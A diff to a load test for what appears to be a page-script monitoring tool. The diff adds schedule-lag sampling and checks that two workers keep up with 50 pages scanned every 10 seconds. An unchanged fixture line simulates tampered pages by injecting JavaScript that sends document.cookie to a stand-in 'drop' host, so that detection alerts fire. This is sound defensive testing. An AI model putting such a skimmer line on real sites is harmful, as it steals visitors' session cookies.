@@ -59,19 +59,26 @@ describe('50 pages every 10 s on two workers', () => {
       return p;
     };
     const scheduler = await start(['serve', '--role', 'scheduler'], 'serve.started');
-    await start(['serve', '--role', 'web', '--port', '0'], 'serve.started');
+    const web = await start(['serve', '--role', 'web', '--port', '0'], 'serve.started');
     const workers = [await start(['worker'], 'worker.started'), await start(['worker'], 'worker.started')];
     const began = Date.now();
+    // The lag the web process reports, sampled through the run: how close to capacity the workers ran.
+    const lags: number[] = [];
+    const sampler = setInterval(() => void fetch(`${web.url}metrics`).then((r) => r.text())
+      .then((text) => lags.push(Number(/^scriptwarden_schedule_lag_seconds\{vantage="default"\} ([\d.]+)$/m.exec(text)?.[1] ?? NaN))).catch(() => undefined), 2000);
     await new Promise((resolve) => setTimeout(resolve, RUN_MS / 3));
     for (const i of TAMPERED) site.set(`shop${i}.test`, '/app.js', `window.app = ${i};\nnew Image().src = 'http://drop${i}.test:${site.port}/c?d=' + btoa(document.cookie);`);
     await expect.poll(async () => (await rows<{ n: number }>("SELECT COUNT(DISTINCT target_id) AS n FROM alerts WHERE type = 'script.changed'"))[0]!.n, { timeout: 60_000 }).toBe(TAMPERED.length);
     await new Promise((resolve) => setTimeout(resolve, Math.max(0, RUN_MS - (Date.now() - began))));
+    clearInterval(sampler);
     await scheduler.stop('SIGTERM');
     for (const w of workers) await w.stop('SIGTERM');
     for (const p of running) await p.stop('SIGTERM');
 
     assert.deepEqual(await rows('SELECT target_id, profile, slot FROM scans WHERE slot IS NOT NULL GROUP BY target_id, profile, slot HAVING COUNT(*) > 1'), [], 'no slot recorded twice');
-    assert.deepEqual(scheduler.logs.filter((l) => l.event === 'schedule.coalesced').map((l) => `${l.target} ${l.slot}`), [], 'no slot folded into a waiting one');
+    const load = `schedule lag through the run (s): ${lags.map((l) => l.toFixed(1)).join(' ')}`;
+    assert.deepEqual(scheduler.logs.filter((l) => l.event === 'schedule.coalesced').map((l) => `${l.target} ${l.slot}`), [], `no slot folded into a waiting one; ${load}`);
+    assert.ok(lags.length > 30 && Math.max(...lags) < INTERVAL_MS / 1000, `the workers kept up: ${load}`);
     // Slots of each page, in order: every one 10 s after the one before, from the first to the last.
     const slots = await rows<{ name: string; slot: string }>('SELECT t.name, s.slot FROM scans s JOIN targets t ON t.id = s.target_id WHERE s.slot IS NOT NULL ORDER BY t.name, s.slot');
     const byPage = new Map<string, { slot: string }[]>();
